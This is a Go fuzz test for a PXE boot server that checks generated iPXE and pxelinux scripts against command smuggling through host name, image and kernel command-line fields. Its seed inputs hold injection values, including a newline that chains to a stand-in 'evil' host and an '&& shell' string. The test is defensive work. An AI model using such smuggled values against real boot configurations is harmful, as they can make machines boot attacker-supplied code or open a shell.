package boot

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/livebootp/livebootp/bootp/config"
)

// FuzzScripts renders the iPXE script and pxelinux config of a host whose
// name, image and cmdline-append come from the fuzzer, through the real
// loader: whatever a config file that loads says, the scripts keep their
// lines (no newline, carriage return or NUL smuggles in a command).
func FuzzScripts(f *testing.F) {
	f.Add("web1", "nginx/1.0", "debug console=ttyS0")
	f.Add("a", "x/y", "quiet\nchain http://evil/")
	f.Add("b", "x/y", "a\rb")
	f.Add("c", "x/y", "${tries} && shell")
	f.Fuzz(func(t *testing.T, name, image, cmdline string) {
		dir := t.TempDir()
		if err := os.MkdirAll(filepath.Join(dir, "images", image), 0o755); err != nil {
			return
		}
		yml := "bootp-registry:\n  server-address: 10.0.0.1\n  subnet: 10.0.0.0/24\n  images-dir: images\n  tftp-root: .\n" +
			"hosts:\n  " + strconv.Quote(name) + ":\n    hardware-ethernet: \"52:54:00:12:34:56\"\n    fixed-address: 10.0.0.10\n" +
			"    image-name: " + strconv.Quote(image) + "\n    cmdline-append: " + strconv.Quote(cmdline) + "\n"
		cfg, err := config.Parse(filepath.Join(dir, "config.yml"), []byte(yml), config.Options{SkipFileChecks: true})
		if err != nil || len(cfg.Hosts) != 1 {
			return
		}
		h := cfg.Hosts[0]
		for _, op := range []string{"&&", "||", "${"} {
			if strings.Contains(h.CmdlineAppend, op) {
				t.Fatalf("cmdline-append %q with iPXE's %q loaded", h.CmdlineAppend, op)
			}
		}
		want := map[string]int{"ipxe": 14, "pxelinux": 7}
		for kind, s := range map[string]string{"ipxe": IPXEScript(cfg, h), "pxelinux": PXELinuxConfig(cfg, h)} {
			if n := strings.Count(s, "\n"); n != want[kind] || strings.ContainsAny(s, "\r\x00") {
				t.Fatalf("%s script of host %q image %q cmdline %q has %d lines (want %d) or CR/NUL:\n%s", kind, name, image, cmdline, n, want[kind], s)
			}
		}
	})
}
